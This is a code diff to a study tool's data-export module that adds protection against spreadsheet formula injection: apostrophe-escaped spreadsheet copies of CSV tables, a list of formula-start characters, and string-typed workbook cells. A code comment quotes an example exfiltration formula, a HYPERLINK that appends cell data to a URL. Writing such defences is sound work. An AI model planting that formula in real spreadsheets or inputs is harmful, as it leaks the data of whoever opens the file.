@@ -16,6 +16,7 @@ import inspect
 import io
 import json
 import math
+import re
 import zipfile
 from collections.abc import Iterable
 from dataclasses import dataclass, fields, replace
@@ -750,6 +751,43 @@ def _as_text_timestamps(frame: pd.DataFrame) -> pd.DataFrame:
     return result
 
 
+# -- writers -----------------------------------------------------------------------------
+#
+# Spreadsheet formula injection.  Experts type rationales and open answers, facilitators
+# write item texts; a spreadsheet that opens a CSV file reads a cell starting with "="
+# (LibreOffice; Excel also "+", "-" and "@") as a formula and runs it, so an answer such
+# as =HYPERLINK("http://…?"&A1, "click") could send a researcher's data away.  The raw CSV
+# files must stay exact (pandas, R and reproduce.py read them, and "-3" is a number), so
+# the zip carries a second copy of every table for spreadsheets, in SPREADSHEET_FOLDER,
+# whose risky text cells begin with an apostrophe (OWASP, "CSV Injection"); the workbook
+# stores every text as a string, which no spreadsheet evaluates; JSON is evaluated by
+# nothing and keeps the exact text.
+
+SPREADSHEET_FOLDER = "spreadsheet"
+"""The folder of the CSV export that holds the spreadsheet-safe copy of every table."""
+
+#: What a spreadsheet reads as the start of a formula: the four operators, and tab and
+#: carriage return, after which some spreadsheets still find one (OWASP's list), with
+#: the full-width forms of the operators, which some input methods turn into them.
+FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+#: A text that is a plain number: a spreadsheet reads it as that number, evaluating
+#: nothing, so it keeps its form ("-3" stays -3).
+_PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")
+
+
+def spreadsheet_text(value: Any) -> Any:
+    """``value`` as the spreadsheet copy writes it: a text whose first character after
+    any spaces would start a formula, and which is not a plain number, gets an
+    apostrophe in front (shown by the spreadsheet, which then keeps the cell as text);
+    every other value, numbers first of all, is unchanged."""
+    if not isinstance(value, str):
+        return value
+    start = value.lstrip(" ")[:1]
+    if start in FORMULA_STARTS and not _PLAIN_NUMBER.match(value.strip()):
+        return "'" + value
+    return value
+
+
 README = """\
 Export of the elicit study {study} (elicit {version}).
 
@@ -763,6 +801,11 @@ settings.json   the settings reproduce.py recomputes the summaries with
 reproduce.py    run `python reproduce.py` here, with elicit's `analysis` package
                 importable: it recomputes every summary from responses.csv and checks
                 each statistic (PASS / FAIL)
+spreadsheet/    the same six tables for opening in a spreadsheet (Excel, LibreOffice,
+                Google Sheets): a text that a spreadsheet would run as a formula (one
+                starting with = + - @, a tab or a return) begins with an apostrophe.
+                The files above hold every text exactly as typed; read those with
+                pandas or R, and open only these in a spreadsheet.
 
 No name, email or access link of any panelist is in this export; panelists appear only
 by pseudonym, group and language.
@@ -770,13 +813,14 @@ by pseudonym, group and language.
 
 
 def write_csv(tables: ExportTables, folder: Path | str) -> list[Path]:
-    """Write one CSV per table, ``settings.json``, ``reproduce.py`` and ``README.txt``
-    into ``folder`` (created if needed); return the files written."""
+    """Write one CSV per table, ``settings.json``, ``reproduce.py``, ``README.txt`` and
+    the spreadsheet-safe copies (:data:`SPREADSHEET_FOLDER`) into ``folder`` (created
+    if needed); return the files written."""
     target = Path(folder)
-    target.mkdir(parents=True, exist_ok=True)
     written = []
     for name, payload in _csv_files(tables).items():
         path = target / name
+        path.parent.mkdir(parents=True, exist_ok=True)
         path.write_bytes(payload)
         written.append(path)
     return written
@@ -790,11 +834,18 @@ def write_csv_zip(tables: ExportTables, stream: io.BufferedIOBase | io.BytesIO) 
 
 
 def _csv_files(tables: ExportTables) -> dict[str, bytes]:
-    """The CSV export's files by name."""
-    files = {
-        f"{name}.csv": _as_text_timestamps(frame).to_csv(index=False).encode("utf-8")
-        for name, frame in tables.tables().items()
-    }
+    """The CSV export's files by name (a path relative to the export's folder).
+
+    The raw tables are UTF-8 as written; their spreadsheet copies pass every cell
+    through :func:`spreadsheet_text` and start with a byte-order mark, without which
+    Excel reads UTF-8 as the system's legacy encoding.
+    """
+    files = {}
+    for name, frame in tables.tables().items():
+        text = _as_text_timestamps(frame)
+        files[f"{name}.csv"] = _csv_bytes(text, "utf-8")
+        safe = text.map(spreadsheet_text)
+        files[f"{SPREADSHEET_FOLDER}/{name}.csv"] = _csv_bytes(safe, "utf-8-sig")
     files["settings.json"] = (json.dumps(tables.settings, indent=2) + "\n").encode("utf-8")
     files["reproduce.py"] = REPRODUCE_SCRIPT.read_bytes()
     files["README.txt"] = README.format(
@@ -803,11 +854,24 @@ def _csv_files(tables: ExportTables) -> dict[str, bytes]:
     return files
 
 
+def _csv_bytes(frame: pd.DataFrame, encoding: str) -> bytes:
+    """``frame`` as CSV with CRLF line ends (RFC 4180).
+
+    Python's CSV writer quotes a field holding a character of the line terminator, so
+    with CRLF a text holding a lone carriage return is quoted; with a bare LF it was
+    written unquoted, and every reader split the row there.
+    """
+    return frame.to_csv(index=False, lineterminator="\r\n").encode(encoding)
+
+
 def write_xlsx(tables: ExportTables, path: Path | str | io.BytesIO) -> None:
     """Write an Excel workbook with one sheet per table (methods last).
 
-    Text is written as text: a rationale starting with "=" does not become a formula,
-    and characters that Excel cannot store are dropped.
+    Every text is stored as a string cell with its text unchanged: openpyxl turns a
+    text starting with "=" into a formula and one such as "#N/A" into an error value,
+    so each text cell is typed as a string again before the workbook is saved (no
+    spreadsheet evaluates a string cell).  Characters that the file format cannot
+    store (C0 controls other than tab, line feed and carriage return) are dropped.
     """
     from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
@@ -822,14 +886,16 @@ def write_xlsx(tables: ExportTables, path: Path | str | io.BytesIO) -> None:
         for worksheet in writer.book.worksheets:
             for row in worksheet.iter_rows():
                 for cell in row:
-                    if cell.data_type == "f":
+                    if isinstance(cell.value, str):
                         cell.data_type = "s"
 
 
 def write_json(tables: ExportTables, path: Path | str | io.BytesIO) -> None:
     """Write one JSON document: ``{"study", "settings", <table>: [records…]}``.
 
-    Missing values are ``null``; timestamps ISO 8601 text in UTC.
+    Missing values are ``null``; timestamps ISO 8601 text in UTC.  Texts are exactly as
+    typed: JSON is read by programs, which evaluate nothing (no spreadsheet opens it
+    without an import that types each value).
     """
     document: dict[str, Any] = {"study": tables.study, "settings": tables.settings}
     for name, frame in tables.tables().items():
